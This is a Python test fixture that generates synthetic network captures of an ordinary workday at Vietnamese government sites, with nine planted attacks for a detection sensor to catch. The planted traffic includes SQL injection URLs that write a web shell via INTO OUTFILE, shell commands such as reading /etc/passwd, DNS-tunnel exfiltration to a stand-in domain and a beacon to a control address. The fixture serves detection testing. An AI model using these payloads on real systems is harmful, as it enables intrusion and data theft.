"""A working day at one ministry and two provinces: hours of ordinary traffic, and nine things planted in it.

The day is seeded, so the captures are the same bytes in every run. `PLANTED` says what a correct watch finds, and
nothing else; the ordinary hours alone must give nothing.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass
from hashlib import sha256
from random import Random

from sensors.made.tls import handshake
from sensors.made.traffic import Capture, page, request, response

#: 2026-11-20T00:30:00Z: a Friday, half past seven in Hà Nội.
EPOCH = 1_795_134_600.0
HOURS = 10
MINUTE, HOUR = 60.0, 3_600.0

ATTACKER, GUESSER, CONTROL, FAKE = "203.0.113.66", "203.0.113.90", "198.51.100.20", "198.51.100.77"
LOOKALIKE = "dichvucong-gov.example"
TUNNEL = "kho-du-lieu.example"

#: The text of the file that the demo's indicator knows as bad. It is harmless and says so.
BAD_FILE = b"Vong Gac demo file. It does nothing; only its hash is listed as bad.\n" * 40
BAD_SHA256 = sha256(BAD_FILE).hexdigest()


@dataclass(frozen=True, slots=True)
class Site:
    """One place with a sensor: its agency and the network it is in (`net` is the first two octets)."""

    sensor: str
    agency: str
    net: str
    portal: str

    def host(self, group: int, number: int) -> str:
        return f"{self.net}.{group}.{number}"

    @property
    def web(self) -> str:
        return self.host(0, 80)

    @property
    def resolver(self) -> str:
        return self.host(0, 53)

    @property
    def files(self) -> str:
        return self.host(0, 45)


MINISTRY = Site("bo-mau", "G99", "10.10", "cong.bo-mau.example")
PROVINCE_A = Site("tinh-mau-a", "T98", "10.21", "cong.tinh-mau-a.example")
PROVINCE_B = Site("tinh-mau-b", "T99", "10.22", "cong.tinh-mau-b.example")
SITES = (MINISTRY, PROVINCE_A, PROVINCE_B)


@dataclass(frozen=True, slots=True)
class Planted:
    """One thing planted: it must give exactly one incident of this kind about this entity at this agency."""

    kind: str
    site: Site
    entity: str
    plant: Callable[[Capture, Site], None]


def make_capture(site: Site, *, quiet: bool = False) -> bytes:
    """The day at one site as a pcap; `quiet` leaves out what is planted."""
    capture = Capture(EPOCH, site.resolver)
    ordinary_day(capture, site, Random(site.net))
    if not quiet:
        for planted in PLANTED:
            if planted.site is site:
                planted.plant(capture, site)
    return capture.bytes()


# --- what is planted ------------------------------------------------------------------------------------------------


def port_scan(capture: Capture, site: Site) -> None:
    """Sixty ports of the web server within a minute."""
    for number in range(60):
        capture.syn(1.2 * HOUR + number, ATTACKER, site.web, 20 + number * 17, refused=number % 3 > 0)


def ssh_guessing(capture: Capture, site: Site) -> None:
    """Thirty short sessions on the administration host."""
    hello = [(0, b"SSH-2.0-libssh_0.9.6\r\n"), (1, b"SSH-2.0-OpenSSH_9.2p1\r\n")]
    for number in range(30):
        capture.tcp(2 * HOUR + 5 * number, GUESSER, site.host(0, 22), 22, [*hello, (0, bytes(60)), (1, bytes(52))])


def dns_tunnel(capture: Capture, site: Site) -> None:
    """A file leaves in the first labels of 60 questions."""
    random = Random("tunnel")
    for number in range(60):
        label = "".join(random.choices("abcdefghijklmnopqrstuvwxyz234567", k=52))
        capture.dns(3.1 * HOUR + 4 * number, site.host(3, 7), f"{number:02x}{label}.t.{TUNNEL}", "TXT")


def beacon(capture: Capture, site: Site) -> None:
    """Once a minute for forty minutes, a few bytes to the same page of a bare address."""
    random = Random("beacon")
    for number in range(40):
        asked = request("/gate", CONTROL, method="POST", agent=None, body=b"id=7f&n=%d" % number)
        at = 4 * HOUR + MINUTE * number + random.uniform(0, 3)
        capture.http(at, site.host(4, 21), CONTROL, [(asked, response(b"0", content_type="text/plain"))])


def injection_then_shell(capture: Capture, site: Site) -> None:
    """A parameter of the news page writes a script, which then takes commands."""
    news = page("Tin tức", "<p>Không có tin.</p>")
    attempts = ("7%27", "7%27%20AND%201=1--%20-", "-1%27%20UNION%20SELECT%20user(),version()--%20-")
    for number, value in enumerate(attempts):
        asked = request(f"/tin.php?id={value}", site.portal)
        capture.http(5 * HOUR + 20 * number, ATTACKER, site.web, [(asked, news)])
    write = "-1%27%20UNION%20SELECT%20%27x%27%20INTO%20OUTFILE%20%27/var/www/anh/u.php%27--%20-"
    capture.http(5 * HOUR + 90, ATTACKER, site.web, [(request(f"/tin.php?id={write}", site.portal), news)])
    for number, command in enumerate(("id", "uname%20-a", "cat%20/etc/passwd")):
        asked = request(f"/anh/u.php?cmd={command}", site.portal)
        said = response(b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n", content_type="text/plain")
        capture.http(5 * HOUR + 600 + 30 * number, ATTACKER, site.web, [(asked, said)])


def defacement(capture: Capture, site: Site) -> None:
    """Visitors get another front page for a quarter of an hour."""
    changed = page("Hacked by demo-team", "<h1>Trang này đã bị tấn công bởi demo-team</h1>")
    for number in range(6):
        visitor = f"192.0.2.{30 + number}"
        capture.http(6 * HOUR + 150 * number, visitor, site.web, [(request("/", site.portal), changed)])


def lookalike(capture: Capture, site: Site) -> None:
    """Somebody follows a link to what looks like the public service portal."""
    victim = site.host(3, 15)
    capture.dns(6.5 * HOUR, victim, LOOKALIKE, answer=FAKE)
    handshake(capture, 6.5 * HOUR + 1, victim, FAKE, 443, LOOKALIKE)
    form = request("/dang-nhap", LOOKALIKE, method="POST", body=b"so_cccd=0&mat_khau=x", fields=["Referer: /"])
    capture.http(6.5 * HOUR + 40, victim, FAKE, [(form, page("Xác thực tài khoản"))])


def bad_download(capture: Capture, site: Site) -> None:
    """A file whose hash an indicator lists."""
    client, name = site.host(5, 9), "tai-ve.example"
    capture.dns(7 * HOUR, client, name, answer=FAKE)
    said = response(BAD_FILE, content_type="application/octet-stream")
    capture.http(7 * HOUR + 1, client, FAKE, [(request("/bo-cai-dat.bin", name), said)])


def smb_worm(capture: Capture, site: Site) -> None:
    """One desktop tries the file service of forty others."""
    for number in range(40):
        capture.syn(8 * HOUR + 4 * number, site.host(4, 44), site.host(7, number + 1), 445, refused=number % 4 == 0)


PLANTED: tuple[Planted, ...] = (
    Planted("port-scan", MINISTRY, ATTACKER, port_scan),
    Planted("ssh-bruteforce", PROVINCE_A, GUESSER, ssh_guessing),
    Planted("dns-tunnel", PROVINCE_B, PROVINCE_B.host(3, 7), dns_tunnel),
    Planted("c2-beacon", MINISTRY, MINISTRY.host(4, 21), beacon),
    Planted("web-intrusion", MINISTRY, MINISTRY.web, injection_then_shell),
    Planted("deface", PROVINCE_A, PROVINCE_A.portal, defacement),
    Planted("phishing-lookalike", MINISTRY, LOOKALIKE, lookalike),
    Planted("known-bad-file", PROVINCE_A, BAD_SHA256, bad_download),
    Planted("smb-worm", PROVINCE_B, PROVINCE_B.host(4, 44), smb_worm),
)


# --- the ordinary day -----------------------------------------------------------------------------------------------

_OUTSIDE: Mapping[str, str] = {
    "www.example.com": "192.0.2.10",
    "tin.example.net": "192.0.2.11",
    "anh.example.net": "192.0.2.12",
    "thu.example.org": "192.0.2.25",
    "cap-nhat.example.org": "192.0.2.40",
    "hop.example.com": "2001:db8::40",
}


def ordinary_day(capture: Capture, site: Site, random: Random) -> None:
    """Ten hours of what people and machines do; nothing of it is worth an analyst's time."""
    for desk in range(12):
        _desk(capture, site, random, site.host(3 + desk % 3, 10 + desk))
    _visitors(capture, site, random)
    _machines(capture, site, random)
    _administrator(capture, site, random)


def _desk(capture: Capture, site: Site, random: Random, client: str) -> None:
    """One person's day: pages over HTTP and TLS, the file server, mail."""
    for hour in range(HOURS):
        at = hour * HOUR + random.uniform(0, 20 * MINUTE)
        for _ in range(random.randint(1, 3)):
            name = random.choice(list(_OUTSIDE))
            address = _OUTSIDE[name]
            source = client if ":" not in address else "2001:db8:10::" + client.rsplit(".", 1)[1]
            capture.dns(at, client, name, "AAAA" if ":" in address else "A", answer=None if ":" in address else address)
            if random.random() < 0.4:
                _browse(capture, at + 1, source, address, name, random)
            else:
                handshake(capture, at + 1, source, address, 443, name)
            at += random.uniform(2 * MINUTE, 12 * MINUTE)
        capture.tcp(at, client, site.files, 445, [(0, b"\0\0\0\x44\xfeSMB" + bytes(64)), (1, bytes(200))])


def _browse(capture: Capture, at: float, client: str, server: str, name: str, random: Random) -> None:
    """A page and its pictures; now and then one that is not there."""
    exchanges = [(request("/", name), page("Trang chủ", "<p>" + "Tin trong ngày. " * random.randint(20, 120) + "</p>"))]
    for number in range(random.randint(1, 3)):
        picture = response(b"\x89PNG\r\n\x1a\n" + bytes(random.randint(200, 2_000)), content_type="image/png")
        exchanges.append((request(f"/anh/{number}.png", name, fields=[f"Referer: http://{name}/"]), picture))
    if random.random() < 0.2:
        exchanges.append((request("/favicon.ico", name), response(b"khong co", "404 Not Found")))
    capture.http(at, client, server, exchanges)


def _visitors(capture: Capture, site: Site, random: Random) -> None:
    """Citizens on the portal: pages, a search, a log-in that fails once."""
    for number in range(80):
        at = random.uniform(0, HOURS * HOUR - 10 * MINUTE)
        visitor = f"192.0.2.{100 + number % 100}"
        word = random.choice(("ho+so", "le+phi", "lich+tiep+dan"))
        exchanges = [
            (request("/", site.portal), page("Cổng thông tin điện tử", "<p>Chào mừng</p>" * 20)),
            (request(f"/tim-kiem?q={word}", site.portal), page("Tìm kiếm", "<li>Kết quả</li>" * 30)),
        ]
        if number % 8 == 0:
            form = request("/dang-nhap", site.portal, method="POST", body=b"ten=a&mat_khau=b", fields=["Referer: /"])
            exchanges.append((form, response(b"sai mat khau", "401 Unauthorized")))
            exchanges.append((form, page("Hồ sơ của tôi")))
        capture.http(at, visitor, site.web, exchanges)


def _machines(capture: Capture, site: Site, random: Random) -> None:
    """Clocks, monitoring, updates, a backup at noon."""
    for quarter in range(HOURS * 4):
        at = quarter * 15 * MINUTE + random.uniform(0, 60)
        client = site.host(0, 20 + quarter % 5)
        capture.udp(at, client, site.host(0, 123), 123, 123, b"\x23" + bytes(47))
        capture.udp(at + 0.01, site.host(0, 123), client, 123, 123, b"\x24" + bytes(47))
        for number, target in enumerate((site.web, site.files, site.resolver)):
            capture.ping(at + 5 + number, site.host(0, 9), target, sequence=quarter)
    update = response(bytes(20_000), content_type="application/octet-stream")
    for desk in range(4):
        asked = request(f"/goi/{desk}.cab", "cap-nhat.example.org", agent="Update-Agent/10.0")
        server = _OUTSIDE["cap-nhat.example.org"]
        capture.http(0.5 * HOUR + desk * 5 * MINUTE, site.host(3, 10 + desk), server, [(asked, update)])
    capture.tcp(4.5 * HOUR, site.host(0, 20), site.host(0, 30), 873, [(0, bytes(60_000)), (1, b"ok")], gap=0.02)


def _administrator(capture: Capture, site: Site, random: Random) -> None:
    """Four sessions to the servers, each some minutes long."""
    hello = [(0, b"SSH-2.0-OpenSSH_9.6\r\n"), (1, b"SSH-2.0-OpenSSH_9.2p1\r\n")]
    for number in range(4):
        talk = [(turn % 2, bytes(random.randint(40, 200))) for turn in range(40)]
        at = number * 2.3 * HOUR + 10 * MINUTE
        capture.tcp(at, site.host(0, 5), site.host(0, 22), 22, [*hello, *talk], gap=2.0)
